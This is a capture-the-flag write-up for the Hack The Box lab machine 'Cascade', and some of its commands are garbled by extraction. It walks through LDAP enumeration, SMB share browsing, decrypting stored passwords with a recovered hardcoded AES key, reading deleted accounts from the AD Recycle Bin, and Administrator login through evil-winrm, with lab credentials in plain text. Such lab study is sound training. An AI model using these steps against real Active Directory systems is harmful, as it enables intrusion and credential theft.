HTB Cascade

machine profile


Introduction: Cascade had a heavy emphasis on enumeration, and LDAP which was unlikethe other active Windows boxes at the time. Prior to this box, I had never touched LDAP before which made it a brilliant learning opportunity. Gaining user was straightforward but took a while since I attempted to exhaust all routes on other services. Rooting Cascade was trickier and involved a few more steps but these felt natural. Onto the box.

Setup: Add the box IP to our /etc/hosts file.

$ printf "\tcascade.htb\n" >> /etc/hosts

Enumeration #1: Perform detailed portscan on the lower ports of cascade.htb using nmap to gather information on any exposed services. Then, perform a less resolute portscan to identify any open higher ports.

$ sudo nmap -sC -sV -Pn cascade.htb -oA nmap/initial; sleep 300 && \
    sudo nmap -p- -sS -Pn cascade.htb -oA nmap/all-ports
$ cat nmap/initial.nmap
Nmap scan report for cascade.htb (
Host is up (0.035s latency).
Not shown: 986 filtered ports
53/tcp    open  domain        Microsoft DNS 6.1.7601 (1DB15D39) (Windows Server 2008 R2 SP1)
| dns-nsid:
|_  bind.version: Microsoft DNS 6.1.7601 (1DB15D39)
88/tcp    open  tcpwrapped
135/tcp   open  msrpc         Microsoft Windows RPC
139/tcp   open  netbios-ssn   Microsoft Windows netbios-ssn
389/tcp   open  ldap          Microsoft Windows Active Directory LDAP (Domain: cascade.local, Site: Default-First-Site-Name)
445/tcp   open  microsoft-ds?
636/tcp   open  tcpwrapped
3268/tcp  open  ldap          Microsoft Windows Active Directory LDAP (Domain: cascade.local, Site: Default-First-Site-Name)
3269/tcp  open  tcpwrapped
49154/tcp open  msrpc         Microsoft Windows RPC
49155/tcp open  msrpc         Microsoft Windows RPC
49157/tcp open  ncacn_http    Microsoft Windows RPC over HTTP 1.0
49158/tcp open  msrpc         Microsoft Windows RPC
49165/tcp open  msrpc         Microsoft Windows RPC
Service Info: Host: CASC-DC1; OS: Windows; CPE: cpe:/o:microsoft:windows_server_2008:r2:sp1, cpe:/o:microsoft:windows

Host script results:
|_clock-skew: 13m09s
| smb2-security-mode:
|   2.02:
|_    Message signing enabled and required
| smb2-time:
|   date: 2020-04-09T15:33:21
|_  start_date: 2020-04-09T12:57:01

If we look at port 389 and 3268 we see nmap gathered the domain of this box cascade.local - we add this to our hosts file entry as cascade.htb. At this point I spent a while enumerating all the services except LDAP - which I left last.

With a FQDN for AD we can attempt a null bind LDAP query.

$ ldapsearch -x -b "dc=cascade,dc=local" -H  ldap://cascade.local# Ryan Thompson, Users, UK, cascade.local
dn: CN=Ryan Thompson,OU=Users,OU=UK,DC=cascade,DC=local
sAMAccountName: r.thompson
sAMAccountType: 805306368
userPrincipalName: r.thompson@cascade.local
cascadeLegacyPwd: clk0bjVldmE=

If we look at the last field, we see it is a base64 encoded legacy password for r.thompson.

$ echo "clk0bjVldmE=" | base64 -d

As an additional note, the query returns information on all users but it is also possible to query msrpc with rpcclient to dump user account information.

Enumeration #2: We can use r.thompson’s credentials to finally enumerate SMB since Guest authentication is disabled.

$ python -H cascade.local -u r.thompson -p rY4n5eva
    dr--r--r--                0 Tue Jan 28 22:05:51 2020    .
    dr--r--r--                0 Tue Jan 28 22:05:51 2020    ..
    dr--r--r--                0 Mon Jan 13 01:45:14 2020    Contractors
    dr--r--r--                0 Mon Jan 13 01:45:10 2020    Finance
    dr--r--r--                0 Tue Jan 28 18:04:51 2020    IT
    dr--r--r--                0 Mon Jan 13 01:45:20 2020Production
    dr--r--r--                0 Mon Jan 13 01:45:16 2020    Temps
    Data                                                READ ONLY

Next, we logon to SMB and inspect IT.

$ smbclient //cascade.local/Data -U r.thompson
directory_create_or_exist: mkdir failed on directory /var/cache/samba/msg.lock: Permission denied
Unable to initialize messaging context
Enter WORKGROUP\r.thompson's password:
Try "help" to get a list of possible commands.
smb: \> cd IT
smb: \IT\> recurse on
smb: \IT\> prompt off
smb: \IT\>dir
  .                                   D        0  Tue Jan 28 18:04:51 2020
  ..                                  D        0  Tue Jan 28 18:04:51 2020
  Email Archives                      D        0  Tue Jan 28 18:00:30 2020
  LogonAudit                          D        0  Tue Jan 28 18:04:40 2020
  Logs                                D        0  Wed Jan 29 00:53:04 2020
  Temp                                D        0  Tue Jan 28 22:06:59 2020


\IT\Email Archives
  .                                   D        0  Tue Jan 28 18:00:30 2020
  ..                                  D        0  Tue Jan 28 18:00:30 2020
  Meeting_Notes_June_2018.html        A     2522  Tue Jan 28 18:00:12 2020.                                   D        0  Tue Jan 28 20:00:01 2020
  ..                                  D        0  TueJan 28 20:00:01 2020
  VNCInstall.reg                     A     2680  Tue Jan 28 19:27:44 2020

        13106687 blocks of size 4096.7786636 blocks available

Inspect all the files available to us on SMB. Eventually, we find \IT\Email Archives\Meeting_Notes_June_2018.html which can be opened in a browser.

Meeting notes

From this we obtain two important pieces of information:

User: We also find a VNC Install.reg from \IT\Temp\s.smith, if we inspect it we see find an encrypted password.

$ cat 'VNC Install.reg'

This can be decrypted using an online tool to get sT333ve2. Finally, s.smith is able to remotely access cascade.local which we do over wsman using evil-winrm.$ evil-winrm -P 5985 -u s.smith -p "sT333ve2" -i

Evil-WinRM shell v2.3

Info: Establishing connection to remote endpoint

*Evil-WinRM* PS C:\Users\s.smith\Documents> dir ../Desktop/user.txt

    Directory: C:\Users\s.smith\Desktop

Mode                LastWriteTime         Length Name----                ---         --- ----
-ar---        4/20/2020   2:20 PM             34 user.txt

Enumeration #3: We need to Return to SMB as s.smith. When enumerate SMB we see we have access to a drive r.thompson didn’t.

$ python -H cascade.local -u s.smith -p sT333ve2
    dr--r--r--                0 Wed Jan 29 18:01:26 2020    .
    dr--r--r--                0 Wed Jan 29 18:01:26 2020    ..
    fr--r--r--            13312 Tue Jan 28 21:47:08 2020    CascAudit.exe
    fr--r--r--            12288 Wed Jan 29 18:01:26 2020    CascCrypto.dll
    dr--r--r--                0 Tue Jan 28 21:43:18 2020    DB
    fr--r--r--               45 Tue Jan 28 23:29:47 2020    RunAudit.bat
    fr--r--r--           363520 Tue Jan 28 20:42:18 2020    System.Data.SQLite.dll
    fr--r--r--           186880 Tue Jan 28 20:42:18 2020    System.Data.SQLite.EF6.dll
    dr--r--r--                0 Tue Jan 28 20:42:18 2020    x64
    dr--r--r--                0 Tue Jan 28 20:42:18 2020    x86
    Audit$                                              READ ONLY

Lateral Movement: We download the contents of this drive and inspect it locally. We happen across a database file.$ file DB/Audit.db
DB/Audit.db: SQLite 3.x database, last written using SQLite version 3027002

With the knowledge that it is an sqlite3 database, we can inspect the tables.

$ sqlite3
SQLite version 3.31.1 2020-01-27 19:55:54
Enter ".help" for usage hints.
Connected to a transient in-memory database.
Use ".open FILENAME" to reopen on a persistent database.
sqlite> .open DB/Audit.db
sqlite> .tables
DeletedUserAudit  Ldap              Misc
sqlite> .schema Ldap
    "uname" TEXT,
    "pwd"   TEXT,
    "domain"    TEXT
sqlite> select * from Ldap;

We appear to have credentials for ArkSvc but they’re encrypted. I focused my attention to disassembling CascAudit.exe using ILSpy since it likely decrypts these credentials.

/* [snip] */
SQLiteCommand val2 = (SQLiteCommand)(object)new SQLiteCommand("SELECT * FROM LDAP", val);
    SQLiteDataReader val3 = val2.ExecuteReader();
        str = Conversions.ToString(val3.get_Item("Uname"));str2 = Conversions.ToString(val3.get_Item("Domain"));
        string encryptedString = Conversions.ToString(val3.get_Item("Pwd"));
            password = Crypto.DecryptString(encryptedString, "c4scadek3y654321");
/* [snip] */

My suspicions were correct, this application does decrypt the credentials. However, I didn’t have a Windows machine available for this box so I opted to compile the decompiled crypto DLL with the key given in the main application.

using System;
using System.IO;
using System.Security.Cryptography;using System.Text;

class MainClass {
  public static void Main (string[] args) {
    Console.WriteLine(DecryptString("BQO5l5Kj9MdErXx6Q6AGOw==", "c4scadek3y654321"));

  public static string DecryptString(string EncryptedString, string Key) {
    byte[] array = Convert.FromBase64String(EncryptedString);
    Aes aes = Aes.Create();
    aes.KeySize = 128;
    aes.BlockSize = 128;
    aes.IV = Encoding.UTF8.GetBytes("1tdyjCbY1Ix49842");aes.Mode = CipherMode.CBC;
    aes.Key = Encoding.UTF8.GetBytes(Key);
    using (MemoryStream stream = newMemoryStream(array))
      using (CryptoStream cryptoStream = new CryptoStream(stream, aes.CreateDecryptor(), CryptoStreamMode.Read))
        byte[] array2 = new byte[checked(array.Length - 1 + 1)];
        cryptoStream.Read(array2, 0, array2.Length);
        return Encoding.UTF8.GetString(array2);

Running this gave us the decrypted password for ArkSvc.$ mcs -out:main.exe main.cs
$ mono main.exe

Privilege Escalation: ArkSvc can access cascade.local using evil-winrm. Additionally, ArkSvc is able to access the AD Recycle Bin which may contain information about the TempAdmin account - which we can query to recover information.

*Evil-WinRM* PS C:\Users\arksvc\Documents> Get-ADObject -filter 'isdeleted \
    -eq $true -and name -ne "Deleted Objects"' -includeDeletedObjects -property *
CanonicalName                   : cascade.local/Deleted Objects/TempAdmin
cascadeLegacyPwd                : YmFDVDNyMWFOMDBkbGVz
CN                              :TempAdmin

Decoding cascadeLegacyPwd gives us.

$ echo "YmFDVDNyMWFOMDBkbGVz" | base64 -d

We can now logon to the box using evil-winrm once more, to grab the root flag.

$ evil-winrm -P 5985 -u Administrator -p "baCT3r1aN00dles" -i

Evil-WinRM shellv2.3

Info: Establishing connection to remote endpoint

*Evil-WinRM* PS C:\Users\Administrator\Documents> dir ../Desktop/root.txt

    Directory: C:\Users\Administrator\Desktop

Mode                LastWriteTime         Length Name
----                ------ ----
-ar---        4/20/2020   2:20PM             34 root.txt